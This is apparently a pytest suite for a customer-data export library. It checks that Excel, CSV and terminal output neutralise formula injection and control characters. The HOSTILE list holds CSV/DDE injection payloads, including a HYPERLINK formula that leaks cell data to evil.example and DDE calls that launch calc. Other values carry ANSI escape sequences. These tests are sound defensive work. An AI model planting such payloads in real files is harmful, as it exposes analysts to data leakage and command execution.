"""Exports and prints of data: inert in a spreadsheet and a terminal, readable in Excel.

A first name is whatever a store clerk or a sign-up form typed: text that a spreadsheet would run
(a formula, a DDE call) or a terminal would obey (ESC, BEL, a carriage return) is written as text.
"""

from __future__ import annotations

import io
from functools import cache
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from openpyxl.utils.escape import unescape

import capframe
from capframe.cli import main
from capframe.sandbox import _org

# What a spreadsheet would execute or follow, one per customer.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "{=1+1}",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "https://evil.example/x",
)
# The same in a CSV file: OWASP's characters (= + - @ TAB CR LF) get a ' in front; "{=" is a formula in
# a workbook only (xlsxwriter's array formula), a URL a link in a workbook only.
IN_CSV = tuple(name if name.startswith(("{=", "https:")) else f"'{name}" for name in HOSTILE)


@pytest.fixture(scope="module")
def client() -> capframe.Client:
    return capframe.Client.sandbox(customers=1_000, seed=0)


@pytest.fixture(scope="module")
def hostile(client: capframe.Client) -> capframe.CustomerTables:
    """Returned customers whose first names are :data:`HOSTILE`, in that order."""
    org = client.sandbox_org
    assert org is not None
    tables = capframe.fetch_customer_tables(org.customer_ids(60), "INSTORE", client=client, progress=False).returned()
    customers = tables.customers.head(len(HOSTILE)).with_columns(first_name=pl.Series(HOSTILE))
    return capframe.CustomerTables.of({**tables.tables(), "customers": customers}, tables.provenance)


@pytest.fixture
def hostile_sandbox(monkeypatch: pytest.MonkeyPatch) -> None:
    """The sandbox's synthetic customers are named with :data:`HOSTILE` (and an ESC, a BEL, a new line)."""
    monkeypatch.setattr(_org, "_FIRST", (*HOSTILE, "Ann\x1b[8m hidden", "Bo\x07b", "Cy\nforged line"))


def run(*argv: str) -> tuple[int, str]:
    out = io.StringIO()
    return main(list(argv), out=out), out.getvalue()


def _ids_file(tmp_path: Path, client: capframe.Client, count: int = 200) -> Path:
    assert client.sandbox_org is not None
    ids = tmp_path / "ids.txt"
    ids.write_text("\n".join(map(str, client.sandbox_org.customer_ids(count))))
    return ids


@cache
def _book(path: Path) -> openpyxl.Workbook:
    """A workbook read once (each file here is written once, then only read): openpyxl takes a third
    of a second to read one."""
    return openpyxl.load_workbook(path)


def _cells(path: Path, sheet: str, column: str) -> list[openpyxl.cell.Cell]:
    rows = list(_book(path)[sheet].iter_rows())
    index = [cell.value for cell in rows[0]].index(column)
    return [row[index] for row in rows[1:]]


def _text(cell: openpyxl.cell.Cell) -> object:
    """The text Excel shows: a workbook stores a CR as ``_x000D_``, which openpyxl leaves as it is."""
    return unescape(cell.value) if isinstance(cell.value, str) else cell.value


def _no_formula_and_no_link(path: Path) -> None:
    for sheet in _book(path):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert cell.hyperlink is None, (sheet.title, cell.coordinate, cell.value)


# --- Excel: every text is a text cell -----------------------------------------------------------


def test_write_excel_writes_text_that_looks_like_a_formula_or_a_link_as_text(
    hostile: capframe.CustomerTables, tmp_path: Path
) -> None:
    path = hostile.write_excel(tmp_path / "report.xlsx")
    _no_formula_and_no_link(path)
    names = _cells(path, "customers", "first_name")[: len(HOSTILE)]
    assert [_text(cell) for cell in names] == list(HOSTILE)
    assert {cell.data_type for cell in names} == {"s"}


def test_the_cli_workbook_writes_text_that_looks_like_a_formula_as_text(
    hostile_sandbox: None, client: capframe.Client, tmp_path: Path
) -> None:
    code, _ = run("customers", "--ids", str(_ids_file(tmp_path, client)), "--sandbox", "-o", str(tmp_path / "r.xlsx"))
    assert code == 0
    _no_formula_and_no_link(tmp_path / "r.xlsx")
    names = {_text(cell) for cell in _cells(tmp_path / "r.xlsx", "customers", "first_name")}
    assert set(HOSTILE) <= names


# --- CSV: what a spreadsheet would run gets a ' in front (OWASP), numbers and other formats untouched


def _csv_names(path: Path) -> list[str]:
    return pl.read_csv(path, infer_schema=False)["first_name"].to_list()


def test_write_csv_puts_a_quote_before_text_a_spreadsheet_would_run_and_leaves_numbers(
    hostile: capframe.CustomerTables, tmp_path: Path
) -> None:
    negative = hostile.customers.with_columns(lifetime_purchases=pl.lit(-5.0), score=pl.lit(-5))
    tables = capframe.CustomerTables.of({**hostile.tables(), "customers": negative})
    written = tables.write_csv(tmp_path / "out")
    assert _csv_names(written["customers"]) == list(IN_CSV)
    back = pl.read_csv(written["customers"])
    assert back["lifetime_purchases"].to_list() == [-5.0] * len(HOSTILE)  # numbers stay numbers
    assert back["score"].to_list() == [-5] * len(HOSTILE)
    # Text that only contains the characters, or starts with another, is left as it is.
    assert pl.read_csv(written["profiles"], infer_schema=False)["first_name"].str.starts_with("'").sum() == 0


def test_write_csv_for_programs_keeps_every_text_as_it_is(hostile: capframe.CustomerTables, tmp_path: Path) -> None:
    written = hostile.write_csv(tmp_path / "out", spreadsheet_safe=False)
    assert _csv_names(written["customers"]) == list(HOSTILE)


def test_parquet_is_data_and_keeps_every_text_as_it_is(hostile: capframe.CustomerTables, tmp_path: Path) -> None:
    written = hostile.write_parquet(tmp_path / "out")
    assert pl.read_parquet(written["customers"])["first_name"].to_list() == list(HOSTILE)


@pytest.mark.parametrize(
    ("output", "options", "quoted"),
    [
        ("customers.csv", [], True),
        ("tables/", ["--format", "csv"], True),
        ("customers.csv", ["--no-spreadsheet-safe"], False),
        ("tables/", ["--format", "csv", "--no-spreadsheet-safe"], False),
        ("customers.ndjson", [], False),
    ],
    ids=["file", "folder", "file-for-programs", "folder-for-programs", "ndjson"],
)
def test_the_cli_csv_puts_a_quote_before_text_a_spreadsheet_would_run(
    hostile_sandbox: None, client: capframe.Client, tmp_path: Path, output: str, options: list[str], quoted: bool
) -> None:
    target = tmp_path / output
    code, _ = run("customers", "--ids", str(_ids_file(tmp_path, client)), "--sandbox", "-o", str(target), *options)
    assert code == 0
    path = target / "customers.csv" if output.endswith("/") else target
    names = set(
        (pl.read_ndjson(path) if path.suffix == ".ndjson" else pl.read_csv(path, infer_schema=False))["first_name"]
    )
    assert set(IN_CSV if quoted else HOSTILE) <= names


@pytest.mark.parametrize("options", [[], ["--no-spreadsheet-safe"]], ids=["spreadsheet", "programs"])
def test_the_cli_csv_on_stdout_puts_a_quote_before_text_a_spreadsheet_would_run(
    hostile_sandbox: None, client: capframe.Client, tmp_path: Path, options: list[str]
) -> None:
    code, text = run("customers", "--ids", str(_ids_file(tmp_path, client)), "--sandbox", "-o", "-", *options)
    assert code == 0
    names = set(pl.read_csv(io.StringIO(text), infer_schema=False)["first_name"])
    assert set(HOSTILE if options else IN_CSV) <= names


# --- the terminal: control characters from data are shown as escapes ---------------------------------

CONTROL = ("Ann\x1b[8m hidden", "Bo\x07b", "Cy\r\nforged line")


def _no_control_character(text: str) -> None:
    assert not {"\x1b", "\x07", "\r"} & set(text), repr(text)
    assert not any(line.lstrip("│ ").startswith("forged line") for line in text.splitlines()), text


def test_the_cli_summary_shows_control_characters_of_a_name_as_escapes(
    monkeypatch: pytest.MonkeyPatch, client: capframe.Client, tmp_path: Path
) -> None:
    monkeypatch.setattr(_org, "_FIRST", CONTROL)
    code, text = run("customers", "--ids", str(_ids_file(tmp_path, client, 10)), "--sandbox")
    assert code == 0
    _no_control_character(text)
    for escaped in ("Ann\\x1b[8m hidden", "Bo\\x07b", "Cy\\r\\nforged line"):
        assert escaped in text


def test_the_demo_shows_control_characters_from_data_as_escapes(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    fetch = capframe.cli.fetch_customer_tables

    def with_a_forged_loyalty_type(*args: object, **kwargs: object) -> capframe.CustomerTables:
        tables = fetch(*args, **kwargs)  # type: ignore[arg-type]
        customers = tables.customers.with_columns(loyalty_type=pl.lit("loyalty\x1b[2J\rnon_loyalty"))
        return capframe.CustomerTables.of({**tables.tables(), "customers": customers}, tables.provenance)

    monkeypatch.setattr(capframe.cli, "fetch_customer_tables", with_a_forged_loyalty_type)
    code, text = run("demo", "--count", "20", "--no-progress", "-o", str(tmp_path / "c.parquet"))
    assert code == 0
    _no_control_character(text)
    assert "loyalty\\x1b[2J\\rnon_loyalty" in text


def test_an_error_shows_control_characters_as_escapes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, _ = run("customers", "--ids", str(tmp_path / "ids\x1b[2J.txt"), "--sandbox")
    assert code == 2
    error = capsys.readouterr().err
    _no_control_character(error)
    assert "ids\\x1b[2J.txt" in error


# --- Excel: what an analyst reads -------------------------------------------------------------------

# Integer columns of the data dictionary that are ids or codes: digits, never "700,000,000".
IDENTIFIERS = {
    "customer_id", "parent_customer_id", "user_id", "error_code", "code",
    "series_id", "card_id", "id", "card_customer_id", "org_id", "entity_id",
}  # fmt: skip
QUANTITIES = {
    "score",
    "profile_count",
    "profile_index",
    "parent_number",
    "value_number",
    "no_of_children",
    "expiry_days",
    "max_active_cards",
}


@pytest.fixture(scope="module")
def workbook(client: capframe.Client, tmp_path_factory: pytest.TempPathFactory) -> tuple[capframe.CustomerTables, Path]:
    org = client.sandbox_org
    assert org is not None
    ids = [*org.customer_ids(300), *org.pii_deleted_ids()[:3], *org.unknown_ids(2)]
    tables = capframe.fetch_customer_tables(ids, "INSTORE", client=client, progress=False)
    return tables, tables.write_excel(tmp_path_factory.mktemp("excel") / "report.xlsx")


def test_every_integer_column_of_the_data_dictionary_is_an_identifier_or_a_quantity() -> None:
    dictionary = capframe.schemas.data_dictionary()
    assert set(dictionary.filter(dtype="Int64")["column"]) == IDENTIFIERS | QUANTITIES


def test_the_workbook_shows_ids_and_codes_as_digits_and_quantities_with_separators(
    workbook: tuple[capframe.CustomerTables, Path],
) -> None:
    tables, path = workbook
    book = _book(path)
    seen = set()
    for name, frame in tables.tables().items():
        header, *rows = book[name].iter_rows()
        for index, cell in enumerate(header):
            if not frame.schema[cell.value].is_integer():
                continue
            numbers = [row[index] for row in rows if row[index].value is not None]
            formats = {number.number_format for number in numbers}
            assert formats == ({"0"} if cell.value in IDENTIFIERS else {"#,##0;[Red]-#,##0"}) or not numbers, (
                name,
                cell.value,
                formats,
            )
            seen |= {cell.value} if numbers else set()
    assert {"customer_id", "error_code", "code", "card_id", "series_id", "org_id", "entity_id", "score"} <= seen


def test_the_workbook_writes_a_cards_dates_as_dates(workbook: tuple[capframe.CustomerTables, Path]) -> None:
    tables, path = workbook
    for column in ("issued_date", "created_date"):
        cells = _cells(path, "cards", column)
        assert len(cells) == tables.cards.height > 0
        assert {(cell.data_type, cell.number_format) for cell in cells} == {("d", "yyyy-mm-dd")}
        assert [f"{cell.value:%Y-%m-%d}" for cell in cells] == tables.cards[column].to_list()


def test_a_date_column_holding_something_else_stays_text(
    workbook: tuple[capframe.CustomerTables, Path], tmp_path: Path
) -> None:
    tables, _ = workbook
    cards = tables.cards.with_columns(
        issued_date=pl.when(pl.int_range(pl.len()) == 0).then(pl.lit("soon")).otherwise("issued_date")
    )
    path = capframe.CustomerTables.of({**tables.tables(), "cards": cards}).write_excel(tmp_path / "r.xlsx")
    cells = _cells(path, "cards", "issued_date")
    assert [cell.value for cell in cells] == cards["issued_date"].to_list()  # nothing lost
    assert {cell.data_type for cell in cells} == {"s"}
    assert {cell.data_type for cell in _cells(path, "cards", "created_date")} == {"d"}


def test_the_workbook_freezes_every_header_and_keeps_one_filtered_table_per_sheet(
    workbook: tuple[capframe.CustomerTables, Path],
) -> None:
    tables, path = workbook
    book = _book(path)
    assert book.sheetnames == [*tables.tables(), "columns", "provenance"]
    for sheet in book:
        assert sheet.freeze_panes == "A2", sheet.title
        (table,) = sheet.tables.values()
        assert table.autoFilter is not None, sheet.title


def test_the_workbook_describes_every_column_written(workbook: tuple[capframe.CustomerTables, Path]) -> None:
    tables, path = workbook
    rows = [[cell.value for cell in row] for row in _book(path)["columns"].iter_rows()]
    assert rows[0] == ["table", "column", "dtype", "nullable", "description"]
    assert [(table, column) for table, column, *_ in rows[1:]] == [
        (name, column) for name, frame in tables.tables().items() for column in frame.columns
    ]
    dictionary = capframe.schemas.data_dictionary()
    expected = dictionary.filter(table="cards", column="issued_date").row(0)
    assert tuple(next(row for row in rows if row[:2] == ["cards", "issued_date"])) == expected
    assert all(description for *_, description in rows[1:])


def test_the_workbook_states_the_provenance(workbook: tuple[capframe.CustomerTables, Path]) -> None:
    tables, path = workbook
    assert tables.provenance is not None
    rows = [[cell.value for cell in row] for row in _book(path)["provenance"].iter_rows()]
    assert rows[0] == ["field", "value"]
    assert dict(rows[1:]) == {field: str(value) for field, value in tables.provenance.as_dict().items()}
    assert dict(rows[1:])["source"] == "INSTORE"


def test_the_cli_workbook_shows_customer_ids_as_digits_and_describes_its_columns(
    client: capframe.Client, tmp_path: Path
) -> None:
    code, _ = run("customers", "--ids", str(_ids_file(tmp_path, client)), "--sandbox", "-o", str(tmp_path / "r.xlsx"))
    assert code == 0
    assert {cell.number_format for cell in _cells(tmp_path / "r.xlsx", "customers", "customer_id")} == {"0"}
    assert _book(tmp_path / "r.xlsx").sheetnames[-2:] == ["columns", "provenance"]


# --- options that contradict each other are refused, before anything is read or fetched -------------


@pytest.mark.parametrize(
    ("options", "drop"),
    [
        (["-o", "out.xlsx", "--format", "csv"], "drop --format"),
        (["-o", "out.parquet", "--format", "csv"], "drop --format"),
        (["-o", "-", "--format", "parquet"], "drop --format"),
        (["--format", "csv"], "drop --format"),
        (["-o", "out.xlsx", "--table", "identifiers"], "drop --table"),
        (["-o", "tables/", "--table", "identifiers"], "drop --table"),
        (["--table", "identifiers"], "drop --table"),
        (["-o", "out.parquet", "--no-spreadsheet-safe"], "drop --no-spreadsheet-safe"),
        (["-o", "out.xlsx", "--no-spreadsheet-safe"], "drop --no-spreadsheet-safe"),
        (["-o", "tables/", "--no-spreadsheet-safe"], "drop --no-spreadsheet-safe, or add --format csv"),
        (["--max-age", "30d"], "drop --max-age"),
        (["-o", "out.csv", "--table", "nope"], "--table nope: use one of customers, profiles"),
    ],
)
def test_options_that_contradict_each_other_are_refused_saying_which_to_drop(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, options: list[str], drop: str
) -> None:
    monkeypatch.chdir(tmp_path)
    # An ids file that does not exist: the options are refused before it is read.
    code, _ = run("customers", "--ids", "missing.txt", "--sandbox", *options)
    assert code == 2
    error = capsys.readouterr().err
    assert drop in error
    assert "missing.txt" not in error
    assert list(tmp_path.iterdir()) == []  # nothing written


def test_the_demo_refuses_options_that_do_nothing_for_its_output(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _ = run("demo", "--count", "5", "-o", str(tmp_path / "c.parquet"), "--no-spreadsheet-safe")
    assert code == 2
    assert "drop --no-spreadsheet-safe" in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []


def test_children_refuse_a_workbook_with_a_format(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, _ = run(
        "children", "--parent", "mobile:917799889933", "--sandbox", "-o", str(tmp_path / "c.xlsx"), "--format", "csv"
    )
    assert code == 2
    assert (
        f"--format csv chooses the files of -o FOLDER, but -o {tmp_path / 'c.xlsx'} writes every table to a workbook: drop --format"
        in capsys.readouterr().err
    )


# --- reruns say what they did: units from the snapshot, units fetched, requests sent ----------------


def test_a_rerun_says_in_its_repr_that_it_came_from_the_snapshot(tmp_path: Path) -> None:
    client = capframe.Client.sandbox()
    org = client.sandbox_org
    assert org is not None
    ids = org.customer_ids(150)
    first = capframe.fetch_customer_tables(ids[1:], "INSTORE", client=client, cache_dir=tmp_path, progress=False)
    assert first.provenance is not None
    assert first.provenance.sent == len(org.request_log) == 2  # what the server saw
    assert repr(first).endswith("; this run: 149 customer ids fetched, 2 requests sent)")
    again = capframe.fetch_customer_tables(ids[1:], "INSTORE", client=client, cache_dir=tmp_path, progress=False)
    assert repr(again).endswith("; this run: 149 customer ids from snapshot, 0 fetched, 0 requests sent)")
    grown = capframe.fetch_customer_tables(ids, "INSTORE", client=client, cache_dir=tmp_path, progress=False)
    assert repr(grown).endswith("; this run: 149 customer ids from snapshot, 1 fetched, 1 request sent)")
    assert len(org.request_log) == 3
    # What the data is stays the same on every rerun; what the run did is not part of it.
    assert again.provenance == first.provenance
    assert "sent" not in first.provenance.as_dict()


def test_the_repr_of_a_pull_without_a_snapshot_stays_short(client: capframe.Client) -> None:
    tables = capframe.fetch_customer_tables([565338404], "INSTORE", client=client, progress=False)
    assert repr(tables).endswith("UTC; this run: 1 customer id fetched, 1 request sent)")


def test_a_rerun_of_children_says_it_came_from_the_snapshot(tmp_path: Path) -> None:
    client = capframe.Client.sandbox()
    parents = [("mobile", "917799889933")]
    capframe.fetch_children_tables(parents, client=client, cache_dir=tmp_path, progress=False)
    again = capframe.fetch_children_tables(parents, client=client, cache_dir=tmp_path, progress=False)
    assert repr(again).endswith("; this run: 1 parent from snapshot, 0 fetched, 0 requests sent)")


def test_every_pull_logs_what_it_did_at_info(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    client = capframe.Client.sandbox()
    assert client.sandbox_org is not None
    ids = client.sandbox_org.customer_ids(30)
    with caplog.at_level("INFO", logger="capframe"):
        capframe.fetch_customer_tables(ids, "INSTORE", client=client, cache_dir=tmp_path, progress=False)
        capframe.fetch_customer_tables(ids, "INSTORE", client=client, cache_dir=tmp_path, progress=False)
    lines = [r.getMessage() for r in caplog.records if r.name == "capframe" and r.levelname == "INFO"]
    assert lines == [
        f"INSTORE from {client.base_url}: 30 customer ids fetched, 1 request sent",
        f"INSTORE from {client.base_url}: 30 customer ids from snapshot, 0 fetched, 0 requests sent",
    ]


def test_the_cli_summary_of_a_rerun_says_it_came_from_the_snapshot(client: capframe.Client, tmp_path: Path) -> None:
    ids = _ids_file(tmp_path, client, 30)
    options = ("customers", "--ids", str(ids), "--sandbox", "--cache-dir", str(tmp_path / "snapshot"), "--no-progress")
    code, first = run(*options)
    assert code == 0
    assert "This run: 30 customer ids fetched, 1 request sent" in first
    code, again = run(*options)
    assert code == 0
    assert "This run: 30 customer ids from snapshot, 0 fetched, 0 requests sent" in again
